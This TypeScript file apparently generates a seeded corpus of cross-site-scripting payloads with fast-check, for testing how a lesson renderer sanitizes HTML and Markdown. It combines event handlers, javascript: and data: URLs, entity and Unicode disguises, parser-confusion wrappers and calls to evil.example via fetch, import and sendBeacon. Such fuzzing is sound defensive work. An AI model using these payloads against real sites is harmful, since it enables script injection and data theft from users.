import * as fc from 'fast-check';

const oneOf = (names: string) => fc.constantFrom(...names.split(' '));

/** What an attack does once it runs: it strikes, or asks a foreign host. */
const deeds = fc.constantFrom(
  'struck()',
  'window.struck()',
  'self["struck"]()',
  'top.struck()',
  'parent.struck()',
  'setTimeout(struck)',
  'setTimeout`struck\\x28\\x29`',
  '[].constructor.constructor("struck()")()',
  'import("https://evil.example/x.js")',
  'fetch("https://evil.example/")',
  'location="https://evil.example/"',
  'navigator.sendBeacon("https://evil.example/")',
  'new Image().src="https://evil.example/x.png"',
  'open("https://evil.example/")',
);

/** Elements that a lesson may hold, ours among them, and others. */
const names = oneOf(
  'a details summary img table td svg text li ol input code h2 ply-board ply-stepper ' +
    'ply-search ply-predict ply-quiz ply-program ply-cell video audio source track marquee ' +
    'dialog slot template object portal fencedframe search selectedcontent x-y annotation-xml ' +
    'mglyph desc foreignobject',
);

const handlers = oneOf(
  'onclick onfocus onpointerenter ontoggle onbeforetoggle onload onerror onscrollend ' +
    'onanimationstart ontransitionrun onbeforematch oncontentvisibilityautostatechange ' +
    'onsecuritypolicyviolation onscrollsnapchange oncommand onslotchange onwebkitanimationend',
);

/** Attributes that load, lead away, name a script, or let one element act for another. */
const leading = oneOf(
  'src srcset imagesrcset href xlink:href action formaction ping poster data background cite ' +
    'longdesc manifest archive codebase classid profile usemap attributionsrc xml:base values ' +
    'to from by lowsrc dynsrc style srcdoc',
);

const acting = fc.constantFrom(
  'popovertarget=x popovertargetaction=show',
  'commandfor=x command=show-modal',
  'is=ply-program',
  'shadowrootmode=open',
  'slot=question part=x exportparts=x',
  'itemscope itemtype="https://evil.example/"',
  'xmlns="http://www.w3.org/1999/xhtml"',
  'form=x formmethod=dialog',
  'contenteditable=plaintext-only autofocus',
  'inert=false hidden=until-found',
);

/** Signs that readers of HTML and of Markdown see differently. */
const gap = fc.constantFrom(
  ' ',
  '\n',
  '\t',
  '/',
  ' / ',
  '\f',
  '\u000b',
  '\u00a0',
  '\u2028',
  '\0',
  '&#32;',
  '"',
  "'",
);

const quoted = (text: string) =>
  fc.constantFrom(
    `"${text}"`,
    `'${text}'`,
    text.replaceAll(/[\s"'<>`]/g, ''),
    `"&#x22;${text}`,
    `\`${text}\``,
  );

/** Ways of writing a text that a reader may undo. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/[a-z]/g, (each) => `&#${each.charCodeAt(0)};`),
  (text) => text.replaceAll(/[a-z]/g, (each) => `&#x${each.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll(/[a-z]/g, (each) => `%${each.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll(/[a-z]/g, (each, at: number) => (at % 2 ? each.toUpperCase() : each)),
  (text) => text.replaceAll(/(?<=[a-z])(?=[a-z])/g, '\u00ad'),
  (text) => text.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;').replaceAll(':', '&colon;'),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('s', '\u017f').replaceAll('k', '\u212a'),
  (text) => `\ufeff${text}\u200b`,
];

const schemes = fc.constantFrom(
  'javascript:',
  'javascript&NewLine;:',
  '\u0001javascript:',
  'java\nscript:',
  'data:text/html,<script>',
  'data:application/xhtml+xml,<x onload=',
  'blob:',
  'https://evil.example/?',
  '//evil.example/?',
  '\\\\evil.example\\',
);

const address = fc
  .tuple(schemes, deeds, fc.constantFrom(...disguises))
  .map(([scheme, deed, disguise]) => disguise(scheme + deed));

const handler = fc
  .tuple(handlers, deeds, fc.constantFrom(...disguises))
  .chain(([name, deed, disguise]) => quoted(deed).map((value) => `${disguise(name)}=${value}`));

const lead = fc.tuple(leading, address).chain(([name, to]) => quoted(to).map((value) => `${name}=${value}`));

const attribute = fc.oneof(handler, lead, acting);

const tag = fc
  .tuple(
    names,
    gap,
    fc.array(attribute, { minLength: 1, maxLength: 3 }),
    gap,
    fc.constantFrom('>', '/>', '', ' <'),
  )
  .map(([name, before, attributes, between, end]) => `<${name}${before}${attributes.join(between)}${end}`);

/** What surrounds a tag so that a reader takes it for something else than the next one does. */
const covers: readonly ((tag: string) => string)[] = [
  (each) => each,
  (each) => `<!--${each}-->`,
  (each) => `<!-->${each}`,
  (each) => `<![CDATA[${each}]]>`,
  (each) => `<?x ${each}?>`,
  (each) => `<!doctype x [${each}]>`,
  (each) => `<div class="${each}">x</div>`,
  (each) => `<p title='${each}'>x</p>`,
  (each) => `</p></div></section></article>${each}`,
  (each) => `<template>${each}</template>`,
  (each) => `<svg><style>${each}</style></svg>`,
  (each) => `<math><mtext><table><mglyph>${each}`,
  (each) => `<select><option>${each}</select>`,
  (each) => `<table><tr>${each}</tr></table>`,
  (each) => `<ply-stepper position="oxx/.xo/o.." name="${each}"></ply-stepper>`,
  (each) => `[${each}](#x "${each}")`,
  (each) => `![${each}](../../icon.svg '${each}')`,
  (each) => `[x]: <${each}> "${each}"\n\n[x] ![x]`,
  (each) => `| ${each} |\n| :-: |\n| \`${each}\` |`,
  (each) => `~~~python ${each}\n${each}\n~~~`,
  (each) => `:::note ${each}\n\n${each}\n\n:::`,
  (each) => `:::quiz ${each}\n\n- [x] ${each} — ${each}\n- [ ] 1 — 2\n\n:::`,
  (each) => `*<b>${each}*</b>`,
  (each) => `1. - > ${each}`,
  (each) => `<${each}>`,
  (each) => `{${each}}`,
];

/** The same in each run. They are of other kinds than those that people have written: made of parts, at random. */
export const attacks: readonly string[] = [
  ...new Set(
    fc.sample(
      fc.tuple(tag, fc.constantFrom(...covers)).map(([each, cover]) => cover(each)),
      { numRuns: 1100, seed: 34 },
    ),
  ),
];
